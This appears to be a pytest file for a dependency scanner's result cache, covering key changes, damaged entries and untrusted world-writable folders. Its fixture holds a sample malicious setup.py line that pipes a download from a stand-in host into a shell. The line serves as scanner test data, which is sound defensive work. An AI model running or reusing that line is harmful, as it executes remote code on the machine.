"""Facts kept between runs: the same answer, never for other bytes, never from a folder that others can write."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

import depscan
from depscan.facts import engine
from depscan.facts.cache import FactCache
from depscan.facts.inspected import Inspected

CODE = "import os\nos.system('curl http://collector.invalid | sh')\n"


@pytest.fixture
def script(tmp_path: Path) -> str:
    path = tmp_path / "setup.py"
    path.write_text(CODE, "utf-8")
    return str(path)


def kept(cache: FactCache, path: str) -> Inspected | None:
    return cache.load(cache.key(path))


def test_what_was_kept_comes_back_equal(tmp_path: Path, script: str) -> None:
    cache = FactCache(str(tmp_path / "c"))
    item = engine.inspect_path(script)
    assert item.facts
    cache.keep(cache.key(script), item)
    assert kept(cache, script) == item


def test_a_second_inspection_reads_nothing_again(tmp_path: Path, script: str, monkeypatch: pytest.MonkeyPatch) -> None:
    cache = FactCache(str(tmp_path / "c"))
    first = depscan.inspect([script], cache=cache)

    def never(_: str) -> Inspected:
        raise AssertionError

    monkeypatch.setattr(engine, "inspect_path", never)
    second = depscan.inspect([script], cache=cache)
    assert (second.verdict, second.findings) == (first.verdict, first.findings)


def test_one_changed_byte_or_another_name_is_another_key(tmp_path: Path, script: str) -> None:
    cache = FactCache(str(tmp_path / "c"))
    other = tmp_path / "other.py"
    other.write_text(CODE, "utf-8")
    before = cache.key(script)
    assert cache.key(str(other)) != before
    Path(script).write_text(CODE + " ", "utf-8")
    assert cache.key(script) != before


def test_folders_and_missing_files_have_no_key(tmp_path: Path) -> None:
    cache = FactCache(str(tmp_path / "c"))
    assert cache.key(str(tmp_path)) == ""
    assert cache.key(str(tmp_path / "gone")) == ""


@pytest.mark.parametrize("damage", [b"", b"garbage", b"x\x9cK\x04\x00\x00b\x00b"])
def test_a_damaged_entry_is_no_hit(tmp_path: Path, script: str, damage: bytes) -> None:
    cache = FactCache(str(tmp_path / "c"))
    key = cache.key(script)
    cache.keep(key, engine.inspect_path(script))
    for place in (tmp_path / "c").rglob("*"):
        if place.is_file():
            place.write_bytes(damage)
    assert cache.load(key) is None


@pytest.mark.skipif(os.name == "nt", reason="modes are POSIX")
def test_a_folder_that_others_can_write_is_not_trusted(tmp_path: Path, script: str) -> None:
    cache = FactCache(str(tmp_path / "c"))
    cache.keep(cache.key(script), engine.inspect_path(script))
    os.chmod(next((tmp_path / "c").iterdir()), 0o777)  # noqa: S103 - the fault under test
    assert FactCache(str(tmp_path / "c")).key(script) == ""


def test_a_place_that_cannot_be_written_keeps_nothing_and_says_nothing(tmp_path: Path, script: str) -> None:
    (tmp_path / "file").write_text("", "utf-8")
    cache = FactCache(str(tmp_path / "file"))
    cache.keep(cache.key(script) or "0" * 64, engine.inspect_path(script))
    assert cache.load("0" * 64) is None
